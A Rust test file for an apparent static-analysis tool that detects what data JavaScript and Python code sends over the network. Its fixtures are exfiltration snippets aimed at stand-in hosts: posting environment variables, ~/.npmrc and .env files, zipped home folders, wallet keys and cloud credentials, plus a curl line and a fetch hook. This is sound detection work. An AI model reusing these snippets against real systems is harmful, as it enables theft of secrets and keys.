//! One row for each way on which something comes to a call that sends it.

use std::sync::Arc;

use super::{Ingredient, Order, Sink};
use crate::flow::{Program, Unit};
use crate::manifest;
use crate::model::{RelPath, Tree};
use crate::signatures::Signatures;
use crate::syntax::{Language, ParseBudget, parse};

/// What each sending call sends, sorted: `env, file ~/.npmrc -> collect.example`.
fn sent(path: &str, code: &str) -> String {
    let language = Language::from_extension(path.rsplit('.').next().unwrap()).unwrap();
    let module = parse(code, language, &ParseBudget::default()).unwrap();
    let unit = Unit { path: RelPath::new(path).unwrap(), module: Arc::new(module), parts: Default::default() };
    let program = Program::new(vec![unit], None);
    let signatures = Signatures::builtin();
    let (facts, _) = crate::facts::collect(&program, &manifest::read(&Tree::new(Vec::new(), Vec::new())), &signatures);
    let sends = facts.outflows.iter().filter(|outflow| outflow.sink == Sink::Send);
    let mut shown: Vec<String> = sends
        .map(|outflow| {
            let mut parts: Vec<String> = outflow.ingredients.iter().map(|(ingredient, _)| show(ingredient)).collect();
            parts.dedup();
            let hosts: Vec<&str> = outflow.hosts.iter().map(|host| host.address.host.as_str()).collect();
            format!("{} -> {}", parts.join(", "), hosts.join(", "))
        })
        .collect();
    shown.sort();
    shown.join("; ")
}

fn show(ingredient: &Ingredient) -> String {
    match ingredient {
        Ingredient::Environment => "env".to_owned(),
        Ingredient::Variable(name) => format!("${name}"),
        Ingredient::File(path) => format!("file {path}"),
        Ingredient::Folder(path) => format!("folder {path}"),
        Ingredient::Source { id, .. } => id.clone(),
        Ingredient::Output(command) => format!("output of {command}"),
        Ingredient::Answer(host) => format!("answer of {}", host.as_deref().unwrap_or("?")),
        Ingredient::Input(name) => format!("input {name}"),
        Ingredient::Order(Order::Caller) => "order of a caller".to_owned(),
        Ingredient::Order(Order::Chat { keyed }) => format!("order of a {} chat", if *keyed { "keyed" } else { "user's" }),
    }
}

#[test]
fn what_is_sent_is_followed_through_variables_helpers_and_callbacks() {
    let post = |data: &str| format!("const os = require('os');\n{data}\nfetch('https://a.example/', {{ body: data }});");
    for (code, expected) in [
        ("const data = JSON.stringify(process.env);", "env -> a.example"),
        ("const data = []; for (const k of Object.keys(process.env)) data.push(k);", "env -> a.example"),
        ("const data = {}; data.host = os.hostname();", "host-name -> a.example"),
        ("const facts = { h: os.hostname(), t: process.env.T }; const data = facts.t;", "$T -> a.example"),
        ("const read = (env) => ({ key: env.K }); const data = read(process.env);", "$K -> a.example"),
        ("const data = require('zod').object({}).parse(process.env).K;", "$K -> a.example"),
        ("const data = require('crypto').createHash('md5').update(os.hostname()).digest('hex');", ""),
        ("const data = require('fs').readFileSync(os.homedir() + '/.npmrc');", "file ~/.npmrc -> a.example"),
        ("const data = process.env.X ? 1 : 2;", ""),
    ] {
        assert_eq!(sent("index.js", &post(code)), expected, "{code}");
    }
}

#[test]
fn what_lies_beside_a_member_is_not_in_it() {
    let head = "import os\nimport socket\nimport requests\n\n";
    let post = |data: &str| format!("    requests.post('https://a.example/', data={data})\n");
    let filled = "def run(app):\n    app.state.host = socket.gethostname()\n    app.state.tokens.append(os.environ['T'])\n";
    for (data, expected) in [
        ("app.state.other", ""),
        ("app.state.host", "host-name-python -> a.example"),
        ("app.state.tokens", "$T -> a.example"),
        ("app.other", ""),
        ("app.state", "$T, host-name-python -> a.example"),
        ("getattr(app.state, 'other', None)", ""),
        ("getattr(app.state, 'host', None)", "host-name-python -> a.example"),
        ("getattr(app.state, 'other', os.environ['D'])", "$D -> a.example"),
        ("getattr(app.state, name)", "$T, host-name-python -> a.example"),
        ("getattr(app, 'state').host", "host-name-python -> a.example"),
    ] {
        assert_eq!(sent("acme.py", &format!("{head}{filled}{}", post(data))), expected, "{data}");
    }
}

#[test]
fn a_helper_is_looked_at_for_each_of_its_callers() {
    let code = "import os\nimport requests\n\ndef post(url, data):\n    requests.post(url, data=data)\n\npost('https://a.example/', os.environ['A'])\npost('https://b.example/', os.environ['B'])\n";
    assert_eq!(sent("acme.py", code), "$A -> a.example; $B -> b.example");
}

#[test]
fn what_was_written_to_a_file_is_in_it() {
    let code = "import json\nimport os\nimport requests\n\nwith open('/tmp/x', 'w') as file:\n    json.dump(dict(os.environ), file)\nrequests.post('https://a.example/', files={'f': open('/tmp/x', 'rb')})\n";
    assert_eq!(sent("acme.py", code), "env, file /tmp/x -> a.example");
}

#[test]
fn a_connection_is_known_by_what_has_connected_it() {
    let code =
        "import os\nimport socket\n\nline = socket.socket()\nline.connect(('192.0.2.1', 1))\nline.sendall(str(os.environ).encode())\n";
    assert_eq!(sent("acme.py", code), "env -> 192.0.2.1");
}

#[test]
fn a_command_that_sends_is_a_call_that_sends() {
    let code = "require('child_process').execSync('curl -d \"$(whoami)\" https://a.example/x');";
    assert_eq!(sent("index.js", code), "output of whoami -> a.example");
}

#[test]
fn what_is_packed_in_memory_is_in_the_buffer() {
    let packed = "import ftplib\nimport io\nimport os\nimport zipfile\n\ndef sweep():\n    buffer = io.BytesIO()\n    with zipfile.ZipFile(buffer, 'w') as archive:\n        for root, folders, files in os.walk(os.path.expanduser('~')):\n            for name in files:\n                archive.write(os.path.join(root, name))\n    return buffer\n\nftplib.FTP('a.example').storbinary('STOR x', sweep())\n";
    assert_eq!(sent("acme.py", packed), "file */*, folder ~ -> a.example");
    let folder = "const Zip = require('adm-zip');\nconst zip = new Zip();\nzip.addLocalFolder(require('os').homedir() + '/.config/solana');\nfetch('https://a.example/', { method: 'POST', body: zip.toBuffer() });";
    assert_eq!(sent("index.js", folder), "file *, file ~/.config/solana, home-folder -> a.example");
}

#[test]
fn one_setting_is_not_all_of_them() {
    let read = |sent: &str| {
        format!(
            "const fs = require('fs');\nconst found = {{}};\nfor (const line of fs.readFileSync('.env', 'utf8').split('\\n')) found[line.split('=')[0]] = line.split('=')[1];\nfetch('https://a.example/', {{ method: 'POST', body: {sent} }});"
        )
    };
    assert_eq!(sent("index.js", &read("JSON.stringify(found)")), "file .env -> a.example");
    assert_eq!(sent("index.js", &read("found.NOTES_TOKEN")), "");
}

#[test]
fn keys_are_known_by_what_makes_them_and_by_what_is_given_them() {
    let made =
        "const nacl = require('tweetnacl');\nconst pair = nacl.sign.keyPair();\nfetch('https://a.example/', { headers: { k: pair.KEY } });";
    assert_eq!(sent("index.js", &made.replace("KEY", "secretKey")), "wallet-keys -> a.example");
    assert_eq!(sent("index.js", &made.replace("KEY", "publicKey")), "");
    let given = "import httpx\nfrom eth_account import Account\n\ndef load(first):\n    httpx.post('https://a.example/', json=SENT)\n    return Account.from_key(first)\n";
    assert_eq!(sent("acme.py", &given.replace("SENT", "[first]")), "wallet-keys -> a.example");
    assert_eq!(sent("acme.py", &given.replace("SENT", "[Account.from_key(first).address]")), "");
    let cloud = "import boto3\nimport requests\n\nkeys = boto3.Session().get_credentials()\nrequests.get('https://a.example/?' + keys.secret_key)\n";
    assert_eq!(sent("acme.py", cloud), "cloud-keys-python -> a.example");
}

#[test]
fn what_stands_between_a_program_and_its_requests_is_given_them() {
    let session = "import requests\n\nclass Session(requests.Session):\n    def request(self, method, url, **options):\n        COPY\n        return super().request(method, 'https://b.example' + url, **options)\n";
    let copy = session.replace("COPY", "requests.post('https://a.example/', data=repr(options))");
    assert_eq!(sent("acme.py", &copy), "requests-of-others -> a.example");
    assert_eq!(sent("acme.py", &session.replace("COPY", "options.setdefault('timeout', 3)")), "");
    let fetching = "const plain = globalThis.fetch;\nglobalThis.fetch = (address, options) => {\n  plain('https://a.example/', { method: 'POST', body: JSON.stringify(options) });\n  return plain(address, options);\n};";
    assert!(sent("index.js", fetching).contains("requests-of-others -> a.example"));
}
